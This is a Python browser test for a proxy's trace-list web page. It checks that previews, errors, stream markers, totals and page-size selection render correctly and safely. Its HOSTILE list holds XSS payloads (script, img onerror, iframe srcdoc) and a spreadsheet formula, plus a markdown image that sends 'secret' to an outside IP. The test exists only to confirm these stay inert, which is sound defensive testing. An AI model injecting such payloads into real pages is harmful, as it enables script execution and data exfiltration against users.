"""The traces list you can scan, in a real browser: the previews of what was asked and answered
(hostile ones shown as text, never HTML), the error message of a failure, the stream marker, the
total count and the page-size choice."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from prysmai._proxy.store import Store, TraceFilter, queries

from .. import browser as b
from ..api.test_download import AUTH, fill, make_rows
from ..conftest import KEY, FakeUpstream

pytestmark = pytest.mark.timeout(240)

OUTSIDE = "http://203.0.113.9"
HOSTILE = [
    "<script>window.__pwned='script'</script>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    f"![exfil]({OUTSIDE}/leak?d=secret) <iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\">",
    '=HYPERLINK("http://203.0.113.9")',
]


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    yield from b.launch()


def test_the_list_shows_previews_errors_streams_and_a_total_as_text(
    chromium: Any, tmp_path: Any, fake: FakeUpstream, start_proxy: Any
) -> None:
    rows = make_rows(120)
    for i, row in enumerate(rows):
        row["prompt_preview"] = HOSTILE[i % len(HOSTILE)] + f" #{i}"
        row["answer_preview"] = None if i % 5 == 0 else HOSTILE[(i + 1) % len(HOSTILE)]
        row["error"] = f"upstream said <b>no</b> #{i}" if row["status"] == "error" else None
    path = str(tmp_path / "traces.db")
    fill(path, rows)
    proxy = start_proxy(fake.url, db_path=path)
    base = proxy.server.url
    context = chromium.new_context(viewport=b.DESKTOP)
    page = context.new_page()
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    b.login(page, base, KEY, "/traces?since=all")
    api = httpx.get(f"{proxy.base_url}/traces", params={"since": "all"}, headers=AUTH).json()
    assert api["total"] == 120 and api["total_exact"] is True
    assert page.text_content("#traces-total") == "120 trace(s) match"
    table = page.locator("#traces-table tbody tr")
    assert table.count() == 50
    for i, trace in enumerate(api["data"]):
        tr = table.nth(i)
        assert tr.locator("[data-preview=prompt]").text_content() == trace["prompt_preview"]
        if trace["status"] == "error":
            assert tr.locator("[data-preview=error]").text_content() == trace["error"]
        else:
            want = trace["answer_preview"] or "\u2013"
            assert tr.locator("[data-preview=answer]").text_content() == want
        assert tr.locator("[data-stream]").count() == (1 if trace["stream"] else 0)
    assert any(t["status"] == "error" for t in api["data"]) and any(t["stream"] for t in api["data"])
    assert page.evaluate("window.__pwned") is None and not dialogs
    assert page.evaluate("document.querySelectorAll('main img, main iframe, main script').length") == 0
    b.screenshot(page, "traces-previews")

    # A page size: 25 rows, from the first page, the filters kept.
    page.select_option("#page-size", "25")
    b.wait_ready(page)
    assert "limit=25" in page.url and "since=all" in page.url
    assert page.locator("#traces-table tbody tr").count() == 25
    assert all(u.startswith(base + "/") for u in requests), [u for u in requests if not u.startswith(base)]
    context.close()


def test_a_total_past_the_bound_is_more_than(tmp_path: Any) -> None:
    path = str(tmp_path / "t.db")
    fill(path, make_rows(30))
    store = Store.existing(path, read_time_limit=None)
    assert store is not None
    with store:
        assert store.read_sync(queries.count_traces, TraceFilter(), 10) == (10, False)
        assert store.read_sync(queries.count_traces, TraceFilter(), 30) == (30, True)
        assert store.read_sync(queries.count_traces, TraceFilter(model="o3")) == (
            sum(r["model"] == "o3" for r in make_rows(30)),
            True,
        )
